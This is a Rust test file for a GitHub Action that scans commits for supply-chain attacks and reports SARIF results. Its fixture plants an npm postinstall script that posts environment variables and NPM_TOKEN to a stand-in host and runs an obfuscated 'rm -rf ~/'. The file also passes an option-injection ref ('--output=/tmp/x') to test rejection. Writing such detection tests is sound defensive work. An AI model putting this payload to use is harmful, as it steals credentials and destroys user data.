//! The GitHub Action (`action.yml` + `action/run.sh`): its script runs against a real git
//! repository with the real binary, writes the step outputs GitHub reads, and its SARIF
//! validates against the SARIF 2.1.0 schema code scanning uses.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use crate::instance::binary;

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn git(dir: &Path, args: &[&str]) -> String {
    #[expect(
        clippy::disallowed_methods,
        reason = "the test builds a repository with git"
    )]
    let out = Command::new("git")
        .current_dir(dir)
        .args([
            "-c",
            "user.name=Mallory",
            "-c",
            "user.email=mallory@example.test",
            "-c",
            "commit.gpgsign=false",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A repository whose second commit adds an npm install hook that ships the environment to a
/// reserved host (defanged, like the `shai-hulud`-style worms in ../shared/INCIDENTS.md).
fn repository_with_a_malicious_commit() -> (tempfile::TempDir, String, String) {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    git(p, &["init", "-q"]);
    std::fs::write(
        p.join("package.json"),
        "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"jest\"\n  }\n}\n",
    )
    .unwrap();
    git(p, &["add", "."]);
    git(p, &["commit", "-q", "-m", "Initial commit"]);
    let base = git(p, &["rev-parse", "HEAD"]);
    std::fs::write(
        p.join("package.json"),
        "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.1\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/setup.js\",\n    \"test\": \"jest\"\n  }\n}\n",
    )
    .unwrap();
    std::fs::create_dir_all(p.join("scripts")).unwrap();
    std::fs::write(p.join("scripts/setup.js"), crate_malicious_js()).unwrap();
    git(p, &["add", "."]);
    git(p, &["commit", "-q", "-m", "Fix typo"]);
    let head = git(p, &["rev-parse", "HEAD"]);
    (dir, base, head)
}

fn crate_malicious_js() -> &'static str {
    "const https = require('https');\n\
     const { execSync } = require('child_process');\n\
     const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\n\
     const req = https.request({ hostname: 'collector.example.invalid', method: 'POST' });\n\
     req.write(data + process.env.NPM_TOKEN);\n\
     req.end();\n\
     execSync(Buffer.from('cm0gLXJmIH4v', 'base64').toString());\n"
}

fn run_action(dir: &Path, env: &[(&str, &str)]) -> (Output, String) {
    let outputs = dir.join("github-output");
    std::fs::write(&outputs, "").unwrap();
    #[expect(
        clippy::disallowed_methods,
        reason = "the test runs the action's script"
    )]
    let out = Command::new("bash")
        .arg(repo_root().join("action/run.sh"))
        .arg("analyze")
        .current_dir(dir)
        .env("S_EXPRESS_BIN", binary())
        .env("GITHUB_OUTPUT", &outputs)
        .envs(env.iter().copied())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (out, std::fs::read_to_string(outputs).unwrap())
}

#[test]
fn the_action_reports_a_high_risk_change_as_valid_sarif_and_step_outputs() {
    let (dir, base, head) = repository_with_a_malicious_commit();
    let (out, outputs) = run_action(
        dir.path(),
        &[
            ("SX_BASE", &base),
            ("SX_HEAD", &head),
            ("SX_FAIL_ON", "high"),
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(outputs.contains("band=high\n"), "{outputs}");
    assert!(outputs.contains("failed=true\n"), "{outputs}");
    assert!(
        outputs.contains("sarif-file=s-express.sarif\n"),
        "{outputs}"
    );
    let findings: usize = outputs
        .lines()
        .find_map(|l| l.strip_prefix("findings="))
        .and_then(|n| n.parse().ok())
        .unwrap();
    assert!(findings >= 3, "{outputs}");

    let sarif: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("s-express.sarif")).unwrap())
            .unwrap();
    let validator = crate::sarif_schema::sarif_validator();
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "SARIF does not validate: {errors:#?}");
    let uris: Vec<&str> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str())
        .collect();
    assert!(uris.contains(&"scripts/setup.js"), "{uris:?}");
}

#[test]
fn the_action_does_not_fail_below_the_fail_on_band() {
    let (dir, base, _) = repository_with_a_malicious_commit();
    // An empty range (base..base) is a change with no findings.
    let (out, outputs) = run_action(
        dir.path(),
        &[
            ("SX_BASE", &base),
            ("SX_HEAD", &base),
            ("SX_FAIL_ON", "review"),
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(outputs.contains("band=low\n"), "{outputs}");
    assert!(outputs.contains("failed=false\n"), "{outputs}");
}

#[test]
fn the_action_refuses_refs_that_are_not_commit_ids() {
    let (dir, base, _) = repository_with_a_malicious_commit();
    // A head taken from a fork's branch name must never reach git as an option.
    let (out, outputs) = run_action(
        dir.path(),
        &[("SX_BASE", &base), ("SX_HEAD", "--output=/tmp/x")],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is not a commit id"), "{err}");
    assert!(outputs.is_empty(), "{outputs}");
}

#[test]
fn the_action_explains_a_shallow_checkout() {
    let (dir, base, _) = repository_with_a_malicious_commit();
    let missing = "0123456789abcdef0123456789abcdef01234567";
    let (out, _) = run_action(dir.path(), &[("SX_BASE", &base), ("SX_HEAD", missing)]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("fetch-depth: 0"), "{err}");
}
